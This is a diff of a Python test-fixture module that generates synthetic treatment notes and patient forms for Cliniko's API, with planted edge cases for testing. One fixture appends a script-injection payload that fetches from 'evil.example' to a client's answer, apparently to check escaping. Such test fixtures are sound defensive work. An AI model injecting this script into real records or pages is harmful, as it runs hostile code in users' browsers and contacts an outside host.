@@ -1,4 +1,4 @@
-"""What a treatment note holds: sections, questions and answers as the old system keeps them."""
+"""The content of treatment notes and patient forms: sections, questions and answers, as Cliniko's API writes them."""
 
 from random import Random
 from typing import Any
@@ -66,7 +66,7 @@ def visit_note(rng: Random, prose: Prose) -> Content:
 
 
 def planted_content(name: str, rng: Random, prose: Prose) -> object:
-    """The content of a difficult note; a plain one where the difficulty lies elsewhere."""
+    """The content of a note with a plant: a plain note where the plant does not concern the content."""
     note = visit_note(rng, prose)
     sections = note["sections"]
     if name == "script":
@@ -115,15 +115,16 @@ def _every_type() -> list[dict[str, Any]]:
 
 NOT_JSON = "{'sections': [{'name': 'Details', 'questions': []}"
 LONG_ANSWER = "The stairs at work are the worst of it, and the bus home. " * 180
-"""More than a form's answer may be long."""
+"""Longer than the answer of a form may be."""
 
 
 def signature_id(index: int) -> str:
+    """The id of the signature of a form, by the form's index."""
     return f"{565805660088820000 + index * 11}{1 + index % 9}"
 
 
 def note_questions(description: str = "<div>Compare <b>both sides</b>.</div>") -> Content:
-    """What a template asks; nothing is answered yet."""
+    """The content of a note template: questions without answers."""
     return {
         "sections": [
             {"name": "Subjective", "questions": [_asked("How has it been?", "paragraph"), _asked("Area", "text")]},
@@ -133,6 +134,7 @@ def note_questions(description: str = "<div>Compare <b>both sides</b>.</div>") -
 
 
 def form_questions() -> Content:
+    """The content of a form template: questions without answers."""
     return {
         "sections": [
             {
@@ -150,17 +152,17 @@ def form_questions() -> Content:
 
 
 def odd_question() -> Content:
-    """A kind of question that came after the format was written down."""
+    """A template with a question of an unknown type."""
     return {"sections": [{"name": "New", "questions": [_asked("How steep are the stairs?", "slider")]}]}
 
 
 def filled_form(index: int, answer: str, odd: str = "") -> Content:
-    """A client's answers. `odd` names what is difficult about them."""
-    said = answer or f"My {('knee', 'shoulder', 'back')[index % 3]}, when I carry the shopping."
+    """The content of a form that a client filled in. `odd` names the plant; `answer` replaces the first answer."""
+    text = answer or f"My {('knee', 'shoulder', 'back')[index % 3]}, when I carry the shopping."
     if odd == "script":
-        said += "<script>fetch('//evil.example')</script>"
+        text += "<script>fetch('//evil.example')</script>"
     questions = [
-        {"name": "What brings you here?", "type": "paragraph", "answer": said},
+        {"name": "What brings you here?", "type": "paragraph", "answer": text},
         {"name": "Since when?", "type": "date", "answer": f"2024-{1 + index % 12:02d}-{1 + index % 28:02d}"},
         _radio("Pain today", PAIN, (1, 2) if odd == "two_radios" else (index % len(PAIN),)),
         {"name": "Signed", "type": "signature", "signature_id": signature_id(index)},
